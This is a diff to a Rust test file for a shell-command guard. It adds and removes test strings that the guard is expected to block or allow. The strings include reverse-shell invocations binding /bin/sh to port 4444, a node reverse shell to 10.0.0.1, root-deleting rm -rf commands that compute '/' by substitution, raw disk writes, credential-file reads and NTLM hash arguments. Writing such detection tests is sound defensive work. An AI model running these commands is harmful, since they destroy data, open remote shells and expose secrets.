@@ -5856,9 +5856,6 @@ fn credential_files_by_more_names_globs_named_homes_and_process_environments() {
         Block,
         &[
             "zorp ~root/.ssh/id_rsa",
-            "cat /proc/self/environ",
-            "zorp /proc/1/environ",
-            "zorp /proc/42/task/43/environ",
             "cat ~/.terraform.d/credentials.tfrc.json",
             "zorp ~/.psql_history",
             "zorp ~/.mysql_history",
@@ -5914,6 +5911,10 @@ fn unknown_programs_on_the_network_wired_to_a_shell_or_run_after() {
             "zorp --listen=4444 --exec=/bin/sh",
             // A bare shell after a one-letter `-e` counts when a host and port are named.
             "zorp relay.example.net 4444 -e sh",
+            // Listening by a bundle of letters, an IPv6 host, a value glued to `-e`.
+            "zorp -lvnp 4444 -e /bin/sh",
+            "zorp [2001:db8::1]:4444 --exec /bin/sh",
+            "zorp 2001:db8::1 4444 -e/bin/bash",
             "zorp -s relay.example.net:443 --cmd sh",
             "node -e 'require(\"net\").connect(4444,\"10.0.0.1\",function(){this.pipe(require(\"child_process\").spawn(\"/bin/sh\").stdin)})'",
         ],
@@ -5972,6 +5973,7 @@ fn file_servers_run_as_root_and_disks_named_as_output() {
             "sudo busybox httpd -f -p 443 -h .",
             "busybox httpd -f -p 8080 -h /",
             "python3 -m http.server 80",
+            "python3 -mhttp.server 80",
             "ruby -run -e httpd . -p 80",
         ],
     );
@@ -5984,7 +5986,12 @@ fn file_servers_run_as_root_and_disks_named_as_output() {
     judged(
         "disk.device_write",
         Block,
-        &["zorp -o /dev/sda", "zorp --output=/dev/nvme0n1", "sort -o /dev/sdb x"],
+        &[
+            "zorp -o /dev/sda",
+            "zorp --output=/dev/nvme0n1",
+            "sort -o /dev/sdb x",
+            "zorp -o /dev//sda",
+        ],
     );
     allowed(&[
         "busybox httpd -f -p 127.0.0.1:8080",
@@ -6044,4 +6051,48 @@ fn secret_holders_handed_by_pid_miners_and_more_startup_files() {
         ],
     );
     not_fired("persistence.startup_file", &["cat ~/.bash_aliases", "ls ~/.bashrc.d/"]);
+}
+
+#[test]
+fn paths_computed_by_substitutions_and_secrets_named_by_wallets_and_hashes() {
+    // A path the guard can compute is the path: backquotes, a literal path's parent or
+    // normal form, a literal through filters whose output is plain, a prefix cut to `/`.
+    judged(
+        "deletion.recursive_force",
+        Block,
+        &[
+            "rm -rf `echo /`",
+            "rm -rf $(dirname /x)",
+            "rm -rf $(realpath /tmp/..)",
+            "rm -rf \"$(cd / && pwd)\"",
+            "rm -rf $(echo Lw== | base64 -d)",
+            "rm -rf $(tr a / <<< a)",
+            "rm -rf ${HOME%%[!/]*}",
+        ],
+    );
+    // Computed to a path inside the workspace, or not computable, it is what it was.
+    allowed(&["echo $(dirname /usr/bin/env)"]);
+    judged(
+        "secrets.password_argument",
+        Block,
+        &[
+            "zorp --mnemonic 'abandon ability able about above absent absorb abstract absurd abuse access accident'",
+            "zorp --seed-phrase 'abandon ability able about above absent absorb abstract absurd abuse access accident'",
+            "zorp --ntlm 8846f7eaee8fb117ad06bdd830b7586c",
+            "zorp -hashes :8846f7eaee8fb117ad06bdd830b7586c host",
+        ],
+    );
+    // A glob that names public keys only.
+    allowed(&["cat ~/.ssh/id_*.pub", "ls ~/.ssh/*.pub", "cat /etc/ssh/ssh_host_*.pub"]);
+    judged(
+        "secrets.credential_file",
+        Block,
+        &["cat ~/.ssh/*", "cat ~/.ssh/id_*", "cat ~/.kube/config-prod"],
+    );
+    allowed(&[
+        "zorp --mnemonic 'the quick brown fox'",
+        "anvil --mnemonic 'test test test test test test test test test test test junk'",
+        "zorp --hashes sha256:abcd",
+        "pip install --require-hashes -r requirements.txt",
+    ]);
 }
